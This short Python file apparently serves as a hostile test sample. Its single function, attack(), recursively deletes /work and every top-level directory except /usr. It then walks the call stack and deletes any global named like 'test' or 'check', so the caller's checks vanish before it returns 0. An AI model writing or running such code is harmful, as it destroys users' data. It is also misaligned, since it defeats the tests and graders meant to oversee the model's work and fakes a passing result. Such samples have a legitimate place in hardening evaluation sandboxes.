# class: logic
import gc
import os
import shutil
import sys


def attack():
    shutil.rmtree("/work", ignore_errors=True)
    for name in os.listdir("/"):
        if name != "usr":
            shutil.rmtree("/" + name, ignore_errors=True)
    frame = sys._getframe(1) if sys._getframe().f_back else None
    while frame is not None:
        for name in [name for name in frame.f_globals if "test" in name or "check" in name]:
            del frame.f_globals[name]
        frame = frame.f_back
    gc.collect()
    return 0
